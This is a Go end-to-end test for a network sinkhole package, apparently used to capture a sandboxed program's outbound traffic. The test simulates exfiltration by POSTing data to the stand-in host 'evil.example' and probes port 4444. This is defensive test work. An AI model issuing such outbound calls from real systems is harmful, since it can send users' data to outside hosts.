//go:build linux && e2e

package sinkhole

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"

	"github.com/miekg/dns"
)

func TestWithoutNFTablesAFewPortsAnswer(t *testing.T) {
	if !inside(t) {
		return
	}
	c := Config{}
	s, err := armBy(&c, func(*Config, netip.AddrPort, netip.AddrPort, bool, bool) error { return errors.New("no nf_tables") })
	if err != nil {
		t.Fatal(err)
	}
	if !s.Partial || len(s.Notes) != 1 || !strings.Contains(s.Notes[0], "no nf_tables") || !strings.Contains(s.Notes[0], "not seen") {
		t.Errorf("%v %q", s.Partial, s.Notes)
	}
	j := newJournal()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error)
	go func() { done <- Serve(ctx, s.Files, c, j.emit) }()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		_ = s.Close()
	}()
	for _, server := range []string{"1.1.1.1:53", "[2001:4860:4860::8888]:53"} {
		for _, network := range []string{"udp", "tcp"} {
			if r := ask(t, network, server, "evil.example", dns.TypeA); len(r.Answer) != 1 {
				t.Errorf("%v", r)
			}
		}
	}
	resp, err := client(t, nil, false).Post("http://evil.example/x", "text/plain", strings.NewReader("the body"))
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Error(resp.Status)
	}
	e := j.wait(t, "the body", func(e Event) bool { return strings.HasSuffix(string(e.Data), "the body") })
	if e.Host != "evil.example" || e.Dest.Port() != 80 {
		t.Errorf("%+v", e)
	}
	if c, err := net.Dial("tcp", "93.184.216.34:4444"); err == nil {
		c.Close()
		t.Error("a port that nobody listens on answered")
	}
	if own, err := net.Dial("tcp", "127.0.0.1:80"); err == nil { // the reset may come a moment later
		if _, err := io.ReadAll(own); err == nil {
			t.Error("the target's loopback was answered")
		}
		own.Close()
	}
	j.wait(t, "refused", func(e Event) bool { return e.Type == TypeRefused && e.Dest.String() == "127.0.0.1:80" })
	fmt.Fprint(dial(t, "udp", "8.8.8.8:514"), "a line of a log")
	j.wait(t, "a datagram", func(e Event) bool { return string(e.Data) == "a line of a log" && e.Dest.String() == "8.8.8.8:514" })
}
